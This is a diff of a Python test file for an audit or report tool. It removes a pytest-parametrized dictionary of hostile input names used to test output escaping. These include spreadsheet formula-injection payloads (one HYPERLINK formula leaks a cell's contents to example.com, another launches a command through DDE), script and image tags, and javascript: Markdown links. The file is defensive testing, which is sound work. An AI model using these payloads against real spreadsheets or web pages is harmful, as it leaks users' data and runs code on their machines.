@@ -8,38 +8,11 @@ from dataclasses import replace
 from functools import cache
 from typing import Any
 
-import pytest
-
 from chalicelib.audit import Audit, judge
 from chalicelib.findings import Finding, Severity
 from chalicelib.local.example import read_example
 from tests.accounts import build
-from tests.report.test_hostile_names import HOSTILE, answers
-
-TRAPS = HOSTILE | {
-    "a formula": '=HYPERLINK("http://example.com/?"&A1,"open")',
-    "a formula after a space": " =1+1",
-    "a formula after a tab": "\t=1+1",
-    "a formula after a newline": "\n@SUM(1)",
-    "a formula after a no-break space": "\u00a0-1+1",
-    "a formula in wide signs": "＝cmd|' /C calc'!A0",
-    "a formula behind a semicolon": "a;=1+1; +2",
-    "a plus": "+1+1",
-    "a minus": "-1+1",
-    "an at sign": "@all",
-    "quotes and commas": 'a",=1+1,"b',
-    "a script": "<script>alert(1)</script>",
-    "an image": "<img src=http://example.com/x.png>",
-    "a Markdown link": "[x](javascript:alert)",
-    "a Markdown link, escaped": "[x\\](javascript:alert)",
-    "a Markdown image": "![x](http://example.com/x.png)",
-    "a Markdown reference": "[x]: http://example.com",
-    "an autolink": "<http://example.com>",
-    "a code span": "`a` [x](http://example.com)",
-    "a placeholder": "{0} {{1}} ${aws:username}",
-    "a long name": "x" * 5000,
-}
-each_trap = pytest.mark.parametrize("name", TRAPS.values(), ids=list(TRAPS))
+from tests.report.test_hostile_names import answers
 
 
 @cache
